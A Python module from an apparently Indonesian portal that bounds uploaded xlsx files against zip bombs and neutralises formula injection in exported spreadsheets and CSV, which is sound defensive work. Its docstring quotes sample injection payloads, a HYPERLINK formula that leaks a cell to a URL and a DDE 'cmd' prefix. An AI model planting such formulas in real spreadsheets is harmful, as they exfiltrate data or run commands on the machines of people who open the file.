"""Spreadsheets that cross the portal's boundary, in both directions.

Reading: every uploaded xlsx — the LKE answer import (reports/xlsx.py), the instrument import
(assessments/instrument_xlsx.py) and the unit import (units/services.py) — is opened by
``open_xlsx``. An xlsx is a zip of XML parts: the 5 MB upload cap allows ~5 GB once inflated
(a 316 KB file holding one 300 MiB cell took a worker to 1.8 GB). So the zip's central directory
is checked before anything is inflated — zipfile never inflates a part past the size the directory
declares (it stops there and fails the CRC check) — and then every sheet is read once in streaming
(read_only) mode with bounds on one cell, the rows and the columns. A file that breaks a bound, is
not a zip, or holds XML the parser refuses (a DOCTYPE with entities: defusedxml is installed, and
openpyxl uses it when it is) raises ``SpreadsheetRefused`` with an Indonesian message; the caller
shows it as a form error. Nothing is truncated silently.

Writing: text that people typed (unit names, evidence titles, answers, …) is written so that a
spreadsheet program never runs it as a formula (``=HYPERLINK("http://…?leak="&A2)``, ``=cmd|…``).
``formula_like`` is the one rule; xlsx files get real text cells (``workbook_bytes``), CSV fields a
leading apostrophe (``csv_field``), as OWASP's "CSV injection" advice says.
"""

import csv
import io
import zipfile

import openpyxl
from django.utils.translation import gettext as _

from zi_portal.sizes import MiB, human_size

# Inflated size of one part of the zip (a sheet, the shared strings). The largest part of a real
# workbook the portal reads is the instrument export's question sheet, 235 KB (the LKE export's
# sheet: 100 KB); 8 MiB leaves ~35 times that, and parsing a part this size keeps a worker's
# memory growth well under 100 MB even when it is one single cell.
MAX_PART_BYTES = 8 * MiB
# All parts together (the instrument export is 280 KB inflated in all).
MAX_TOTAL_BYTES = 32 * MiB
# Parts in the zip: openpyxl writes 9-16, Excel adds a few (calcChain, printer settings, themes).
MAX_PARTS = 256
# Real parts inflate 2-8 times; a bomb ~1000 times. Small parts are exempt (a tiny part of
# repeated markup can inflate a lot and costs nothing).
MAX_RATIO = 100
RATIO_EXEMPT_BYTES = 1 * MiB
# One cell: Excel's own limit (32,767 characters), so no real workbook is refused by it.
MAX_CELL_CHARS = 32_767
# Per sheet: the LKE has ~150 rows, the instrument ~200, a Pemda's unit list ~1,000; the readers
# keep their own, smaller bounds on what they accept.
MAX_ROWS = 20_000
MAX_COLUMNS = 200

# A text starting with one of these is read as a formula (or DDE command) by Excel/LibreOffice.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


class SpreadsheetRefused(ValueError):
    """An uploaded workbook the portal will not read. ``code`` says which check refused it
    (not_xlsx, too_many_parts, part_too_large, total_too_large, ratio, unreadable, cell_too_long,
    too_many_rows, too_many_columns); the message (Indonesian) is for the person who sent it."""

    def __init__(self, code: str, message: str):
        super().__init__(message)
        self.code = code


def unreadable_message() -> str:
    return _("Berkas tidak dapat dibaca sebagai spreadsheet .xlsx. Periksa isinya.")


# --- reading -------------------------------------------------------------------------------


def check_zip(raw: bytes) -> None:
    """Refuses a workbook whose zip directory declares more than the bounds, before inflating."""
    try:
        with zipfile.ZipFile(io.BytesIO(raw)) as zf:
            parts = zf.infolist()
    except (zipfile.BadZipFile, zipfile.LargeZipFile, OSError, ValueError, EOFError):
        raise SpreadsheetRefused("not_xlsx", unreadable_message()) from None
    if len(parts) > MAX_PARTS:
        raise SpreadsheetRefused(
            "too_many_parts",
            _(
                "Berkas .xlsx ini memuat terlalu banyak bagian (%(n)d; maksimal %(max)d). Berkas ditolak."
            )
            % {"n": len(parts), "max": MAX_PARTS},
        )
    total = 0
    for part in parts:
        total += part.file_size
        if part.file_size > MAX_PART_BYTES:
            raise SpreadsheetRefused(
                "part_too_large",
                _(
                    "Berkas .xlsx ini terlalu besar setelah diekstrak: bagian %(part)s berisi %(size)s "
                    "(maksimal %(max)s). Berkas ditolak."
                )
                % {
                    "part": part.filename[-60:],
                    "size": human_size(part.file_size),
                    "max": human_size(MAX_PART_BYTES),
                },
            )
        if part.file_size > RATIO_EXEMPT_BYTES and part.file_size > MAX_RATIO * max(
            part.compress_size, 1
        ):
            raise SpreadsheetRefused(
                "ratio",
                _(
                    "Berkas .xlsx ini tidak wajar: bagian %(part)s mengembang %(ratio)d kali saat diekstrak "
                    "(maksimal %(max)d kali). Berkas ditolak."
                )
                % {
                    "part": part.filename[-60:],
                    "ratio": part.file_size // max(part.compress_size, 1),
                    "max": MAX_RATIO,
                },
            )
    if total > MAX_TOTAL_BYTES:
        raise SpreadsheetRefused(
            "total_too_large",
            _(
                "Berkas .xlsx ini terlalu besar setelah diekstrak (%(size)s; maksimal %(max)s). Berkas ditolak."
            )
            % {"size": human_size(total), "max": human_size(MAX_TOTAL_BYTES)},
        )


def open_xlsx(raw: bytes, *, data_only: bool):
    """The read-only (streaming) openpyxl workbook of an upload whose every sheet has been read
    once within the bounds above, or SpreadsheetRefused. Reading it again gives the same cells,
    so a caller's own pass cannot fail on the XML."""
    check_zip(raw)
    workbook = None
    try:
        workbook = openpyxl.load_workbook(io.BytesIO(raw), read_only=True, data_only=data_only)
        for sheet in workbook.worksheets:
            _scan(sheet)
    except Exception as exc:  # XML, zip and openpyxl errors of every kind mean the same here
        if workbook is not None:
            workbook.close()
        if isinstance(exc, SpreadsheetRefused):
            raise
        raise SpreadsheetRefused("unreadable", unreadable_message()) from None
    return workbook


def _scan(sheet) -> None:
    title = sheet.title[:40]
    # The sheet's <dimension> (any size the file claims) is what iter_rows pads every row to.
    if (sheet.max_row or 0) > MAX_ROWS:
        raise _too_many_rows(title)
    if (sheet.max_column or 0) > MAX_COLUMNS:
        raise _too_many_columns(title)
    for number, row in enumerate(sheet.iter_rows(values_only=True), start=1):
        if number > MAX_ROWS:
            raise _too_many_rows(title)
        if len(row) > MAX_COLUMNS:
            raise _too_many_columns(title)
        for column, value in enumerate(row, start=1):
            if isinstance(value, str) and len(value) > MAX_CELL_CHARS:
                raise SpreadsheetRefused(
                    "cell_too_long",
                    _(
                        "Lembar '%(sheet)s' sel %(cell)s berisi %(n)d karakter; satu sel paling banyak %(max)d "
                        "karakter (batas Excel). Berkas ditolak."
                    )
                    % {
                        "sheet": title,
                        "cell": f"{openpyxl.utils.get_column_letter(column)}{number}",
                        "n": len(value),
                        "max": MAX_CELL_CHARS,
                    },
                )


def _too_many_rows(title):
    return SpreadsheetRefused(
        "too_many_rows",
        _("Lembar '%(sheet)s' memuat lebih dari %(max)d baris. Berkas ditolak.")
        % {"sheet": title, "max": MAX_ROWS},
    )


def _too_many_columns(title):
    return SpreadsheetRefused(
        "too_many_columns",
        _("Lembar '%(sheet)s' memuat lebih dari %(max)d kolom. Berkas ditolak.")
        % {"sheet": title, "max": MAX_COLUMNS},
    )


# --- writing -------------------------------------------------------------------------------


def formula_like(value) -> bool:
    """Text that Excel or LibreOffice would run as a formula if it stood in a cell as typed.
    Numbers are numbers (-2 is not text): only strings are ever neutralised."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_field(value):
    """A CSV field that a spreadsheet program opens as text: formula-like text gets a leading
    apostrophe (the program shows the rest; the apostrophe is visible to other readers)."""
    return "'" + value if formula_like(value) else value


def excel_csv(rows) -> str:
    """CSV that Excel opens as it is: ';' between fields (the list separator of an Indonesian
    Excel, whose decimal comma rules out ','), and a BOM so that it reads UTF-8 instead of the ANSI
    code page. The fields are written as given: text typed by people goes through csv_field first."""
    buf = io.StringIO()
    csv.writer(buf, delimiter=";", lineterminator="\r\n").writerows(rows)
    return "\ufeff" + buf.getvalue()


def workbook_bytes(workbook) -> bytes:
    """Saves a workbook the portal built, every text cell as text: openpyxl turns a string that
    starts with "=" into a formula cell, so such cells are typed back to text, and formula-like
    text gets Excel's quote prefix (what typing '=… does: still text after the cell is edited).
    The text itself is unchanged, so importing the file back gives exactly what was exported.
    The portal writes no formulas of its own."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    if cell.data_type == "f":
                        cell.data_type = "s"
                    if formula_like(cell.value):
                        cell.quotePrefix = True
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


# Number formats of the cells the portal writes: figures stay numbers (sortable, summable) and the
# spreadsheet program shows them in its own locale — "3,50" and "5 Feb 2026" in an Indonesian one.
SCORE_FORMAT = "0.00"
COUNT_FORMAT = "#,##0"
PERCENT_FORMAT = "0.0%"  # a fraction of 1, like zi_portal.formats.percent
WHOLE_PERCENT_FORMAT = '0"%"'  # a figure already out of 100 (action-plan progress)
# [$-421] is Indonesian's locale id: month names in Indonesian ("5 Feb 2026", "5 Agu 2026") whatever
# the language of the program, as the pages write dates.
DATE_FORMAT = "[$-421]d mmm yyyy"
DATETIME_FORMAT = "[$-421]d mmm yyyy hh:mm"


def number_formats(sheet, formats: dict[int, str], *, first_row: int) -> None:
    """Gives the cells of each column (1-based) from ``first_row`` on its number format."""
    for column, number_format in formats.items():
        for (cell,) in sheet.iter_rows(min_row=first_row, min_col=column, max_col=column):
            cell.number_format = number_format
